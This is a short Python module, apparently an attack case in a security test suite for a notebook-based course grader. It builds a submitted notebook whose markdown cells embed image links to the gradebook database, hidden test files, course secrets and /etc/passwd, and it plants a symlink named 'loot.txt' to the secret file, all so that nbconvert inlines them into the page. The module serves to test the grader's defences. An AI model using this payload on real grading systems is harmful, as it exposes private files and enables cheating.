"""Names files of the course as images, which nbconvert could put into the page."""

from pathlib import Path

from nbformat import NotebookNode

from attacks import kit

OUTCOME = kit.Earns(10)


def hand_in(released: NotebookNode, tag: str, folder: Path) -> None:
    """Add markdown cells."""
    notebook = kit.answered(released, tag)
    course = folder.parents[2]
    names = ("gradebook.db", "test_exercise/hidden/test_relu.py", ".course_secret", "secret.txt")
    notebook.cells += kit.markdown(
        *(f"![x]({root}/{name})" for root in (course, "../../..") for name in names),
        *(f"<img src='{root}/{name}'>" for root in (course, "../../..") for name in names),
        "![x](/dev/zero) <img src='file:///etc/passwd'> ![x](loot.txt)",
    )
    (folder / "loot.txt").symlink_to(course / "secret.txt")
    kit.write(folder, notebook)
